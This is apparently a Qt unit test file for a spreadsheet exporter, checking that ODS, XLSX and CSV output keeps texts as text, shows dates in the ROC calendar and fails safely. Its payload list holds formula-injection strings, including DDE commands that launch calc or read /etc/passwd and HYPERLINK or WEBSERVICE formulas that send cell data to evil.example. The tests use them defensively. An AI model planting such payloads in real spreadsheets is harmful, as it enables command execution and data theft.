// SPDX-License-Identifier: GPL-3.0-or-later
#include "domain/error.h"
#include "exchange/tables/tablecells.h"
#include "exchange/tables/tablefile.h"
#include "tablereading.h"
#include "testprogram.h"

#include <QDir>
#include <QTemporaryDir>
#include <QTest>

using namespace noticedesk;
using namespace Qt::StringLiterals;

namespace
{

/// Texts that a spreadsheet would reckon, fetch or run if it took them for formulas.
QStringList formulaPayloads()
{
    return {u"=1+1"_s,
            u"=HYPERLINK(\"http://evil.example/?\"&A1,\"台南市\")"_s,
            u"=cmd|'/c calc'!A0"_s,
            u"=DDE(\"soffice\",\"/etc/passwd\",\"A1\")"_s,
            u"=WEBSERVICE(\"http://evil.example\")"_s,
            u"=IMPORTXML(\"http://evil.example\",\"//a\")"_s,
            u"={1,2}"_s,
            u"==1"_s,
            u"+1+1"_s,
            u"+cmd|'/c calc'!A0"_s,
            u"+886-6-2991111"_s,
            u"-1+1"_s,
            u"-2+3+cmd|'/c calc'!A0"_s,
            u"@SUM(1+1)*cmd|'/c calc'!A0"_s,
            u"@A1"_s,
            u"\t=1+1"_s,
            u"\r=1+1"_s,
            u"\n=1+1"_s,
            u" =1+1"_s,
            u"\u00A0=1+1"_s,
            u"\u3000=1+1"_s,
            u"\u200B=1+1"_s,
            u"\uFEFF=1+1"_s,
            u"＝1+1"_s,
            u"＋1"_s,
            u"－1"_s,
            u"＠SUM(1)"_s,
            u"\"=1+1\",=1"_s};
}

/// Texts that are hard to keep in one of the formats.
QStringList troublesomeTexts()
{
    return {u"台南市 𠮷 公會"_s,
            u"<b>&amp;</b> \"'"_s,
            u"a  b   c"_s,
            u" ends in blanks  "_s,
            u"two\nlines"_s,
            u"a\tb"_s,
            u"_x0041_ and _x000D_"_s,
            u"00012345"_s,
            u"3.95E+08"_s,
            u"115/11/22"_s,
            u"TRUE"_s,
            u"'quoted"_s,
            u"}]]>"_s};
}

std::vector<TableColumn> someColumns()
{
    return {{u"案號"_s, ColumnKind::Text, 10},
            {u"日期"_s, ColumnKind::Date, 14},
            {u"件數"_s, ColumnKind::Number, 8}};
}

} // namespace

/// Tables for spreadsheets: what is written is what a spreadsheet reads.
class TestTables final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void everyTextIsReadBackAsThatText_data()
    {
        QTest::addColumn<QString>("name");
        QTest::newRow("ods") << u"list.ods"_s;
        QTest::newRow("xlsx") << u"list.xlsx"_s;
    }
    void everyTextIsReadBackAsThatText()
    {
        QFETCH(QString, name);
        const QStringList texts = formulaPayloads() + troublesomeTexts();
        const auto tables = written(name, [&](TableFile &file) {
            file.beginTable(u"案件"_s, {{u"=1+1"_s, ColumnKind::Text, 20}});
            for (const QString &text : texts)
                file.addRow({text});
        });
        QCOMPARE(tables.size(), std::size_t{1});
        QCOMPARE(tables[0].name, u"案件"_s);
        QCOMPARE(qsizetype(tables[0].rows.size()), texts.size() + 1);
        QCOMPARE(tables[0].rows[0][0], (testing::ReadCell{"text", u"=1+1"_s}));
        for (qsizetype at = 0; at < texts.size(); ++at) {
            QString expected = texts.at(at);
            // A paragraph break is all that OpenDocument knows of line ends.
            if (name.endsWith(u"ods"))
                expected.replace(u'\r', u'\n');
            const auto &cell = tables[0].rows[static_cast<std::size_t>(at) + 1][0];
            QCOMPARE(cell, (testing::ReadCell{"text", expected}));
        }
    }

    void nothingOfASpreadsheetIsAFormula_data() { everyTextIsReadBackAsThatText_data(); }
    void nothingOfASpreadsheetIsAFormula()
    {
        QFETCH(QString, name);
        write(name, [](TableFile &file) {
            file.beginTable(u"案件"_s, {{u"a"_s}});
            for (const QString &text : formulaPayloads())
                file.addRow({text});
        });
        for (const QByteArray &part : testing::partsOf(path(name))) {
            QVERIFY(!part.contains("<f>") && !part.contains("<f "));
            QVERIFY(!part.contains("table:formula"));
            QVERIFY(!part.contains("xlink:href"));
        }
    }

    void textsThatBeginLikeFormulasAreDefusedInCsv()
    {
        write(u"list.csv"_s, [](TableFile &file) {
            file.beginTable({}, {{u"@heading"_s}, {u"second"_s}});
            for (const QString &text : formulaPayloads())
                file.addRow({text, u"plain"_s});
            for (const QString &text : troublesomeTexts())
                file.addRow({text, u"plain"_s});
        });
        QVERIFY(
            testing::bytesOf(path(u"list.csv"_s)).startsWith("\xEF\xBB\xBF'@heading,second\r\n"));
        QList<QStringList> expected{{u"'@heading"_s, u"second"_s}};
        for (const QString &text : formulaPayloads())
            expected.append({text.startsWith(u'"') ? text : u'\'' + text, u"plain"_s});
        for (const QString &text : troublesomeTexts())
            expected.append({text, u"plain"_s});
        QCOMPARE(testing::csvRowsOf(path(u"list.csv"_s)), expected);
    }

    void daysAndNumbersAreNoTexts_data() { everyTextIsReadBackAsThatText_data(); }
    void daysAndNumbersAreNoTexts()
    {
        QFETCH(QString, name);
        const auto tables = written(name, [](TableFile &file) {
            file.beginTable(u"一"_s, someColumns());
            file.addRow({u"115-0001"_s, QDate(2026, 11, 22), 3.0});
            file.addRow({CellValue(), CellValue(), 0.125});
            file.addRow({u"115-0003"_s, QDate(1912, 1, 1)});
            file.beginTable(u"二"_s, someColumns());
            file.addRow({u"115-0002"_s, QDate(2910, 12, 31), -1.0});
        });
        using testing::ReadCell;
        QCOMPARE(tables.size(), std::size_t{2});
        QCOMPARE(tables[1].name, u"二"_s);
        QCOMPARE(tables[0].rows[1],
                 (std::vector<ReadCell>{
                     {"text", u"115-0001"_s}, {"day", u"2026-11-22"_s}, {"number", u"3"_s}}));
        QCOMPARE(tables[0].rows[2].back(), (ReadCell{"number", u"0.125"_s}));
        QCOMPARE(tables[0].rows[3][1], (ReadCell{"day", u"1912-01-01"_s}));
        QCOMPARE(tables[1].rows[1][1], (ReadCell{"day", u"2910-12-31"_s}));
    }

    void daysAreShownInTheCalendarOfTheRepublic()
    {
        const auto fill = [](TableFile &file) {
            file.beginTable(u"一"_s, someColumns());
            file.addRow({u"115-0001"_s, QDate(2026, 11, 22), 3.0});
        };
        for (const QString &name : {u"a.ods"_s, u"a.xlsx"_s, u"a.csv"_s})
            write(name, fill);
        QVERIFY(testing::partOf(path(u"a.ods"_s), "content.xml")
                    .contains("<text:p>115年11月22日</text:p>"));
        QVERIFY(testing::partOf(path(u"a.ods"_s), "content.xml")
                    .contains(R"(<number:year number:calendar="ROC"/>)"));
        QVERIFY(testing::partOf(path(u"a.xlsx"_s), "xl/styles.xml")
                    .contains("[$-404]e&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"));
        QVERIFY(testing::bytesOf(path(u"a.csv"_s)).endsWith("115-0001,115年11月22日,3\r\n"));
    }

    void anOpenDocumentTellsWhatItIsByItsFirstBytes()
    {
        write(u"a.ods"_s, [](TableFile &file) { file.beginTable(u"一"_s, someColumns()); });
        QCOMPARE(testing::bytesOf(path(u"a.ods"_s)).mid(30, 54),
                 "mimetypeapplication/vnd.oasis.opendocument.spreadsheet");
    }

    void theSameTablesGiveTheSameBytes()
    {
        const auto fill = [](TableFile &file) {
            file.beginTable(u"一"_s, someColumns());
            file.addRow({u"115-0001"_s, QDate(2026, 11, 22), 3.0});
        };
        for (const QString &name : {u"ods"_s, u"csv"_s}) { // an .xlsx says when it was made
            write(u"a."_s + name, fill);
            write(u"b."_s + name, fill);
            QCOMPARE(testing::bytesOf(path(u"a."_s + name)),
                     testing::bytesOf(path(u"b."_s + name)));
        }
    }

    void whatNoXmlCanHoldIsReplaced()
    {
        const QString lone = QString(QChar(0xD800)) + u"a" + QChar(0xDC00) + QChar(0xFFFE);
        QCOMPARE(xmlText(lone), u"\uFFFDa\uFFFD\uFFFD"_s);
        QCOMPARE(xmlText(u"𠮷\u0001\t\n"_s), u"𠮷\uFFFD\t\n"_s);
        for (const QString &name : {u"c.ods"_s, u"c.xlsx"_s}) {
            const auto tables = written(name, [&](TableFile &file) {
                file.beginTable(u"一"_s, {{u"a"_s}});
                file.addRow({lone});
            });
            QCOMPARE(tables[0].rows[1][0].value, u"\uFFFDa\uFFFD\uFFFD"_s);
        }
    }

    void aTableThatIsNotFinishedLeavesNoFile_data()
    {
        everyTextIsReadBackAsThatText_data();
        QTest::newRow("csv") << u"list.csv"_s;
    }
    void aTableThatIsNotFinishedLeavesNoFile()
    {
        QFETCH(QString, name);
        {
            const auto file = makeTableFile(path(name), *tableFormatOf(name));
            file->beginTable(u"一"_s, someColumns());
            file->addRow({u"115-0001"_s});
        }
        QVERIFY(QDir(m_folder->path()).isEmpty());
    }

    void aFileThatCannotBeWrittenIsTold_data() { aTableThatIsNotFinishedLeavesNoFile_data(); }
    void aFileThatCannotBeWrittenIsTold()
    {
        QFETCH(QString, name);
        const QString nowhere = path(u"missing/"_s + name);
        const auto writeThere = [&] {
            const auto file = makeTableFile(nowhere, *tableFormatOf(name));
            file->beginTable(u"一"_s, someColumns());
            file->commit();
        };
        QVERIFY_THROWS_EXCEPTION(Error, writeThere());
    }

    void theEndOfTheNameIsTheFormat()
    {
        QCOMPARE(tableFormatOf(u"/a/b.ODS"_s), TableFormat::Ods);
        QCOMPARE(tableFormatOf(u"b.xlsx"_s), TableFormat::Xlsx);
        QCOMPARE(tableFormatOf(u"b.csv"_s), TableFormat::Csv);
        for (const QString &other : {u"b.xls"_s, u"ods"_s, u"b.ods.pdf"_s, u""_s})
            QCOMPARE(tableFormatOf(other), std::nullopt);
    }

    void init() { m_folder.emplace(); }

private:
    std::optional<QTemporaryDir> m_folder;

    QString path(const QString &name) const { return m_folder->filePath(name); }

    template <class Fill>
    void write(const QString &name, const Fill &fill)
    {
        const auto file = makeTableFile(path(name), *tableFormatOf(name));
        fill(*file);
        file->commit();
    }

    template <class Fill>
    std::vector<testing::ReadTable> written(const QString &name, const Fill &fill)
    {
        write(name, fill);
        return testing::tablesOf(path(name));
    }
};

NOTICEDESK_TEST(TestTables)
#include "test_tables.moc"
